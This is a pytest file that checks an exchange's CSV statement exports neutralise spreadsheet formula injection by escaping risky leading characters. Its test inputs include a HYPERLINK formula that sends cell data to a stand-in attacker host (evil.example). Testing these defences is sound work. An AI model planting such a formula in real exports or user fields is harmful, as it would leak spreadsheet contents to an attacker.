"""CSV exports never hand a spreadsheet a formula: a cell starting with = + - @ tab or carriage return is
shown as text (a leading apostrophe), in every export, while numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from exchange.api.base import spreadsheet_safe
from exchange.services.transfers import transfer_create
from tests.helpers.api import client_for
from tests.helpers.ledger import make_market

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def rows_of(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("memo", FORMULAS)
def test_a_formula_memo_sent_by_transfer_is_text_in_the_receivers_statement(memo):
    market = make_market()
    _, sender, sender_actor = market.holder("Sender")
    _, receiver, receiver_actor = market.holder("Receiver")
    market.give(sender, 10)
    transfer_create(actor=sender_actor, source=sender, destination=receiver, asset=market.cea, quantity=3, memo=memo)

    response = client_for(receiver_actor).get(f"/api/v1/accounts/{receiver.number}/statement?format=csv")

    assert response.status_code == 200
    header, *lines = rows_of(response)
    line = dict(zip(header, lines[-1], strict=True))
    assert line["memo"] == "'" + memo
    assert line["quantity"] == "3"
    sent = rows_of(client_for(sender_actor).get(f"/api/v1/accounts/{sender.number}/statement?format=csv"))
    assert dict(zip(sent[0], sent[-1], strict=True))["quantity"] == "-3"  # a negative number stays a number


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+86 10 1234", "'+86 10 1234"),
        ("-", "'-"),
        ("-12.50", "-12.50"),
        ("-3", "-3"),
        (-3, -3),
        ("plain memo", "plain memo"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
    ],
)
def test_spreadsheet_safe(value, shown):
    assert spreadsheet_safe(value) == shown
